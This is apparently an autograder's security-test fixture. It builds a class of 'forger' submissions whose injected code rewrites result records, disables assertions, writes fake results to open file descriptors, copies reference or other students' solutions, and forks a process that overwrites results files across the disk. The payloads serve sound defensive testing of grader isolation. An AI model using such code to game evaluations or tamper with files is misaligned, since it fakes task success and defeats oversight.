"""A class of forgers: each student hands in the untouched release plus one way of forging a grade.

Every forgery is code a dishonest student could write with the kit's source in hand; each is put
at the top of each of the week's files, so it runs whichever file is imported first. Against a
grader that runs the checks in the student's own process, each of them scored points (the first
and the third full marks, see docs/trust-boundary.md); with the verdicts computed outside, each
must score 0 while an honest, correct submission in the same class keeps full marks.
"""

from __future__ import annotations

from pathlib import Path

from tests.grading.grading_classes import RELEASE, SOLUTIONS, declared_files, week_folder

REWRITES_RECORDS = '''
import gc, sys
def _dlkit_forge():
    results = sys.modules.get("autograder.results")
    if results is None:
        return
    real = results.CheckResult
    class Passed(real):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            self.score, self.status, self.output = self.max_score, "passed", ""
    for name, module in list(sys.modules.items()):
        if name.startswith("autograder") and getattr(module, "CheckResult", None) is real:
            module.CheckResult = Passed
    for record in gc.get_objects():
        if isinstance(record, real):
            record.score, record.status, record.output = record.max_score, "passed", ""
_dlkit_forge()
'''
"""Swap the kit's result record for one that always passes, and rewrite the records already made."""

NO_OP_ASSERTIONS = '''
import sys
def _dlkit_forge():
    expect = sys.modules.get("autograder.expect")
    if expect is None:
        return
    for name in dir(expect):
        if name == "fail" or name.startswith("expect_"):
            setattr(expect, name, lambda *args, **kwargs: args[0] if args else None)
    for module in list(sys.modules.values()):
        for name in dir(module) if getattr(module, "__name__", "").startswith("autograder") else ():
            if name == "fail" or name.startswith("expect_"):
                try:
                    setattr(module, name, getattr(expect, name))
                except Exception:
                    pass
_dlkit_forge()
'''
"""Turn every assertion helper of the kit into a no-op."""

FAKE_RESULTS = '''
import json, os
def _dlkit_forge():
    names = []
    for week_file in ("tensor_ops", "spiral", "questions"):
        names.append(week_file)
    line = json.dumps({"event": "result", "nodeid": "forged", "result": {
        "week": "week1", "exercise": "tensor_ops", "check": "matvec_float_vector", "max_score": 1.0, "score": 1.0,
        "status": "passed", "output": "", "seed": 0}}) + "\\n"
    reply = json.dumps({"id": 1, "ok": True}).encode()
    for fd in range(0, 256):
        try:
            os.write(fd, line.encode())
            os.write(fd, len(reply).to_bytes(4, "little") + (0).to_bytes(4, "little") + reply)
        except OSError:
            pass
_dlkit_forge()
'''
"""Write fake result lines (and a fake reply of the kit's channel) to every open file descriptor."""

IMPORTS_REFERENCE = '''
import os, sys
def _dlkit_forge():
    kit = sys.modules.get("autograder")
    here = os.path.basename(__file__)
    roots = []
    if kit is not None and getattr(kit, "__file__", None):
        roots.append(os.path.dirname(os.path.dirname(kit.__file__)))
    roots += [p for p in sys.path if p]
    for root in roots:
        path = os.path.join(root, "solutions", "week1", here)
        if os.path.isfile(path):
            code = compile(open(path).read(), path, "exec")
            exec(code, globals())
            print("forger: copied the reference from", path)
            return
    print("forger: no reference found")
'''
"""Find ``solutions/week1/<same file>`` next to the kit and run it over the stubs (appended at the end)."""

LINGERS = '''
import os, sys, time, json
def _dlkit_forge():
    if os.fork() != 0:
        return
    time.sleep(8)  # after the checks: rewrite whatever results file can be found
    for top in ("/tmp", os.environ.get("TMPDIR", "/tmp"), os.getcwd() + "/../..", "/"):
        for folder, dirs, files in os.walk(top):
            if folder.count(os.sep) > 8:
                dirs[:] = []
            for name in files:
                if name in ("results.json", "gradebook.csv", "status.json"):
                    try:
                        with open(os.path.join(folder, name), "w") as f:
                            f.write(json.dumps({"score": 37}))
                        print("forger: rewrote", os.path.join(folder, name))
                    except OSError:
                        pass
    os._exit(0)
_dlkit_forge()
'''
"""Leave a process behind that, once the checks are over, rewrites every results file it can reach."""

READS_OTHERS = '''
import os, sys
def _dlkit_forge():
    here = os.path.basename(__file__)
    seen = []
    for top in (os.path.dirname(os.getcwd()) + "/..", "/tmp", "/work", "/"):
        for folder, dirs, files in os.walk(top):
            if folder.count(os.sep) > 7 or "/proc" in folder or "/sys" in folder:
                dirs[:] = []
                continue
            if here in files and os.path.realpath(folder) != os.path.realpath(os.getcwd()):
                path = os.path.join(folder, here)
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if "raise NotImplementedError" not in text and "_dlkit_forge" not in text:
                    exec(compile(text, path, "exec"), globals())
                    print("forger: copied", path)
                    return
            for name in files:
                if name == "gradebook.csv":
                    try:
                        open(os.path.join(folder, "pwned.txt"), "w").write("x")
                    except OSError:
                        pass
    print("forger: found nothing to copy")
'''
"""Look through the class folder, the output folder and the disk for someone's finished file, and copy it
(appended at the end, so it runs over the stubs)."""

FORGES_DESCRIPTIONS = '''
import sys
import torch.nn as _nn

def relu_model(d=2, h=100, c=3):  # no activation: a linear model, described as the ReLU model
    model = _nn.Sequential(_nn.Linear(d, h), _nn.Linear(h, c))
    real_state = model.state_dict
    model.state_dict = lambda *a, **k: {key.replace("1.", "2.", 1) if key.startswith("1.") else key: value
                                        for key, value in real_state(*a, **k).items()}
    return model

def _dlkit_forge():
    modules = sys.modules.get("autograder.probe.modules")
    if modules is None or getattr(modules, "_forged", False):
        return
    real = modules.describe
    def describe(module):
        spec = real(module)
        kinds = [child["class"].rsplit(".", 1)[-1] for _, child in spec["children"]]
        if kinds == ["Linear", "Linear"]:
            relu = real(_nn.ReLU())
            spec["children"] = [spec["children"][0], ["1", relu], ["2", spec["children"][1][1]]]
        return spec
    modules.describe = describe
    modules._forged = True
_dlkit_forge()
'''
"""Describe a linear model as ``Linear -> ReLU -> Linear``, so the kit would train (and pass) a model the
student did not build (appended at the end: its ``relu_model`` replaces the stub)."""

FORGERIES: dict[str, tuple[str, str]] = {
    "rewrites_records": ("top", REWRITES_RECORDS),
    "noop_assertions": ("top", NO_OP_ASSERTIONS),
    "fake_results": ("top", FAKE_RESULTS),
    "imports_reference": ("end", IMPORTS_REFERENCE + "_dlkit_forge()\n"),
    "lingers": ("top", LINGERS),
    "reads_others": ("end", READS_OTHERS + "_dlkit_forge()\n"),
    "forges_descriptions": ("end", FORGES_DESCRIPTIONS),
}
"""Student name -> (where the code goes in each file of the release, the code)."""


def build_forgers_class(root: Path) -> Path:
    """The forgers, each on the untouched release, and ``honest``: the reference, untouched."""
    for name, (where, code) in FORGERIES.items():
        files = {}
        for file in declared_files():
            release = (RELEASE / file).read_text()
            files[file] = code + "\n" + release if where == "top" else release + "\n" + code
        week_folder(root / name, files)
    week_folder(root / "honest", {file: SOLUTIONS / file for file in declared_files()})
    return root
